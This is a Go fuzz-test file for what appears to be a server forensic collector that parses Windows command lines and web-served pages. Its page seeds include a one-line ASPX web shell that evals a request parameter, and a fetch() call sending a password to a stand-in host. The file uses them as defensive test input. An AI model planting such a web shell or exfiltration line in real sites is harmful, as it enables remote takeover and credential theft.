package collectors

import (
	"strings"
	"testing"
)

// FuzzCommand takes command lines of a server apart.
func FuzzCommand(f *testing.F) {
	for _, line := range []string{
		`"C:\Program Files\A\a.exe" -x "y z"`, `C:\My Tools\noext /a`, `%SystemRoot%\System32\svchost.exe -k x`, `%loop%`, `\??\UNC\a\b.exe`, `\SystemRoot\System32\x.sys`,
	} {
		f.Add(line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		m := madeMachine()
		got := m.command(line)
		if most := 8*maxText + len(line) + 64; len(got.path)+len(got.arguments) > 2*most {
			t.Errorf("%d bytes of a line of %d", len(got.path)+len(got.arguments), len(line))
		}
		_ = m.library(line, "32")
		_ = listOfFiles(line)
	})
}

// FuzzPage reads scripts and pages that lie where a web server gives them out.
func FuzzPage(f *testing.F) {
	f.Add([]byte("<%@ Page Language=\"JScript\" %><% eval(Request.Item[\"x\"]) %>\n<script src=\"https://h.example/a.js?k=v\"></script>"))
	f.Add([]byte("\xff\xfe<\x00%\x00"))
	f.Add([]byte("fetch('//h.example/a', {body: password})"))
	f.Fuzz(func(t *testing.T, data []byte) {
		text := pageText(data)
		_ = marksOf("script", text)
		links := linksOf(text)
		if len(links) > maxLinks {
			t.Errorf("%d links", len(links))
		}
		for _, link := range links {
			if strings.ContainsRune(link.Text, '?') {
				t.Errorf("%q keeps its query", link.Text)
			}
		}
	})
}
